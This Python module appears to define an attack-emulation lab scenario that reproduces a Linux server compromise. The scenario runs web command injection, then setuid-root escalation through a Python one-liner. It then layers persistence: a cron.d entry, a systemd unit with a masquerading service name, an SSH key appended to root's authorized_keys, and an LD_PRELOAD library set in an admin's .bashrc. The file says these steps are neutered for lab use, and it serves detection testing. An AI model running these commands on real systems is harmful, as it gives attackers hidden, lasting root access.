"""Persistence sweep: every common Linux foothold-keeping mechanism, installed as root.

Modelled on Linux intrusion sets that, once root, install several persistence mechanisms
at once (cron, systemd, SSH keys, shell rc, dynamic-linker preload), as described in
public reports on cryptomining and APT campaigns against Linux servers.

Every entry is made harmless by construction and removed afterwards: the cron and systemd
entries point at the dropped implant in the lab's own directory (gone after clean-up); cron
is not running and the unit is never started; the SSH key is random; the preload library
does nothing and is preloaded only from a lab user's shell rc.
"""

from __future__ import annotations

from provarmor.lab import techniques as t
from provarmor.lab.context import PYTHON, LabContext
from provarmor.lab.payloads import harmless_preload_c
from provarmor.lab.scenario import Action, Channel, Payload, Plan, Scenario, StepSpec
from provarmor.lab.scenarios.implants import drop_dir, implant_payload, ssh_public_key
from provarmor.lab.scenarios.steps import (
    compile_downloaded,
    download,
    exploit_step,
    implant_step,
    setuid_copy,
    start_implant,
    web_exploit,
)

STEPS = (
    exploit_step(),
    implant_step(),
    StepSpec(
        name="setuid-escalation",
        summary="A setuid-root copy of env runs Python with euid 0, which takes full root "
        "and starts a second implant as root from a dropped file.",
        techniques=(t.SETUID, t.INGRESS_TRANSFER, t.HIDDEN_FILES),
    ),
    StepSpec(
        name="cron",
        summary="A file in /etc/cron.d runs the dropped implant every few minutes.",
        techniques=(t.CRON,),
    ),
    StepSpec(
        name="systemd",
        summary="A systemd unit named like a system service is written and enabled.",
        techniques=(t.SYSTEMD_SERVICE, t.MASQUERADE_NAME),
    ),
    StepSpec(
        name="authorized-keys",
        summary="The attacker's public key is appended to root's authorized_keys.",
        techniques=(t.SSH_AUTHORIZED_KEYS,),
    ),
    StepSpec(
        name="preload-and-rc",
        summary="A shared library compiled from downloaded source is preloaded through "
        "LD_PRELOAD in the administrator's ~/.bashrc.",
        techniques=(t.COMPILE_AFTER_DELIVERY, t.DYNAMIC_LINKER_HIJACK, t.SHELL_CONFIG),
    ),
)


def plan(ctx: LabContext) -> Plan:
    implant = implant_payload(ctx)
    root_agent = ctx.names.token(8)
    root_implant = implant_payload(ctx, agent=root_agent, shebang=True)
    preload_source = Payload(path=f"src/{ctx.names.token(6)}.c", content=harmless_preload_c())
    folder = drop_dir(ctx)
    dropped = f"{folder}/{ctx.names.system_like()}"
    setuid_env = f"/usr/local/bin/{ctx.names.pick(('envx', 'run-env', 'penv'))}"
    service = ctx.names.pick(("dbus-broker-helper", "systemd-netcheck", "udev-settle-x"))
    cron_file = f"/etc/cron.d/{ctx.names.pick(('sysstat-x', 'e2scrub-helper', 'apt-compat-x'))}"
    library = (
        f"/usr/local/lib/lib{ctx.names.pick(('gtk', 'audit', 'selinux'))}-{ctx.names.token(3)}.so"
    )
    become_root = (
        f"{setuid_env} {PYTHON} -c 'import os; os.setgid(0); os.setuid(0); "
        f'os.system("nohup {dropped} >/dev/null 2>&1 &")\''
    )
    unit = (
        f"[Unit]\\nDescription={service}\\n[Service]\\nExecStart={dropped}\\nRestart=always\\n"
        "[Install]\\nWantedBy=multi-user.target\\n"
    )
    ops_rc = f"{ctx.home(ctx.ops_user)}/.bashrc"
    return Plan(
        setup_commands=setuid_copy("/usr/bin/env", setuid_env),
        payloads=(implant, root_implant, preload_source),
        actions=(
            web_exploit("id; ls -la /usr/local/bin"),
            start_implant(ctx, implant),
            Action(
                step="setuid-escalation",
                channel=Channel.IMPLANT,
                command=f"{download(ctx, root_implant, dropped)} "
                f"&& chmod 755 {folder} {dropped} && {become_root}",
            ),
            Action(
                step="cron",
                channel=Channel.IMPLANT,
                agent=root_agent,
                command=f"echo '*/7 * * * * root {dropped} >/dev/null 2>&1' > {cron_file} && "
                f"chmod 644 {cron_file} && id",
            ),
            Action(
                step="systemd",
                channel=Channel.IMPLANT,
                agent=root_agent,
                command=f"printf '{unit}' > /etc/systemd/system/{service}.service && "
                f"systemctl enable {service}.service 2>&1",
            ),
            Action(
                step="authorized-keys",
                channel=Channel.IMPLANT,
                agent=root_agent,
                command="mkdir -p /root/.ssh && chmod 700 /root/.ssh && "
                f"echo '{ssh_public_key(ctx)}' "
                ">> /root/.ssh/authorized_keys && chmod 600 /root/.ssh/authorized_keys",
            ),
            Action(
                step="preload-and-rc",
                channel=Channel.IMPLANT,
                agent=root_agent,
                command=compile_downloaded(
                    ctx, preload_source, library, flags="-shared -fPIC", scratch="p.c"
                )
                + f" && echo 'export LD_PRELOAD={library}' >> {ops_rc}",
            ),
        ),
        artifacts=(folder, setuid_env, library),
    )


SCENARIO = Scenario(
    name="persistence-sweep",
    title="Root through a setuid binary, then cron, systemd, SSH key, shell rc and LD_PRELOAD",
    modelled_on="Linux server intrusion sets that layer persistence once root (public "
    "reports on TeamTNT/Kinsing-style campaigns and Linux APT backdoors)",
    description=(
        "The attacker enters through the web application's command injection and starts a "
        "fileless Python implant. A setuid-root copy of env lets it run Python with "
        "effective uid 0; Python takes full root and starts a second implant dropped into a "
        "hidden directory. As root the attacker writes an /etc/cron.d entry and a systemd "
        "unit named like a system service (enabled with systemctl), appends its SSH key to "
        "root's authorized_keys, compiles a shared library from downloaded source and "
        "preloads it through LD_PRELOAD in the administrator's ~/.bashrc."
    ),
    root_cause=(
        "The web application's ping handler (command injection), escalated through the "
        "setuid-root copy of env; the root implant wrote every persistence entry."
    ),
    steps=STEPS,
    plan=plan,
)
